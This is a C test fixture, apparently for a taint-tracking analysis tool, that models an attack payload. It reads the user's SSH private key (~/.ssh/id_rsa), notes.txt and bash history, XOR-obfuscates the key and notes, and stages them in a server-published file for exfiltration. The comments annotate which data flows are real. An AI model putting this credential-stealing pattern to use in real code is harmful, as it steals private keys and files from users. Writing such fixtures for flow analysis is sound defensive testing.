// Attack scenario (Fixtures/apt): the "payload" a victim fetches from the server and runs.
// Usage: payload STAGED   (reads the user's files under $HOME)
//
// What it does, in order:
//   1. opens $HOME/.config/app.conf and measures it with fstat(2) (its size, what
//      `wc -c` would print), never reads it, and does not use the size.
//   2. reads $HOME/.bash_history completely and drops it: the bytes are never used and
//      never branched on (only read(2)'s return values steer the loop).
//   3. reads $HOME/notes.txt and $HOME/.ssh/id_rsa completely.
//   4. writes STAGED (in the directory the server publishes) with one write(2):
//        STAGED[0, N)       = notes.txt[k] ^ 0x5a               (N = size of notes.txt)
//        STAGED[N, N + K)   = id_rsa[k] ^ KEY[k % 4]             (K = size of id_rsa)
//      KEY is a constant of the program.
//
// True flows (payload process):
//   STAGED[k]     <- notes.txt[k], k < N                         -> data, byte for byte
//   STAGED[N + k] <- id_rsa[k], k < K                            -> data, byte for byte
//   .bash_history: read, never used                              -> no flow (refuted)
//   app.conf: opened and fstat'ed only; its size is not used     -> no flow
// Control flow depends only on read(2) return values and open's success; the sizes N
// and K decide how many bytes are written and where id_rsa's part starts (metadata of the
// two files that are sources anyway).
#include <stdio.h>
#include <sys/stat.h>
#include "../taint/slurp.h"

static const unsigned char KEY[4] = { 0x13, 0x37, 0xc0, 0xde };

int main(int argc, char **argv) {
    if (argc != 2) return 2;
    const char *home = getenv("HOME");
    if (!home) return 2;
    char path[4096];
    struct stat st;
    snprintf(path, sizeof path, "%s/.config/app.conf", home);
    int config = open(path, O_RDONLY);
    if (config >= 0) {
        fstat(config, &st);
        close(config);
    }

    size_t nh, nn, nk;
    snprintf(path, sizeof path, "%s/.bash_history", home);
    unsigned char *history = slurp(path, &nh);
    snprintf(path, sizeof path, "%s/notes.txt", home);
    unsigned char *notes = slurp(path, &nn);
    snprintf(path, sizeof path, "%s/.ssh/id_rsa", home);
    unsigned char *key = slurp(path, &nk);
    if (!history || !notes || !key) return 1;

    unsigned char *staged = malloc(nn + nk + 1);
    for (size_t k = 0; k < nn; k++) staged[k] = notes[k] ^ 0x5a;
    for (size_t k = 0; k < nk; k++) staged[nn + k] = key[k] ^ KEY[k % 4];
    return spill(argv[1], staged, nn + nk) ? 1 : 0;
}
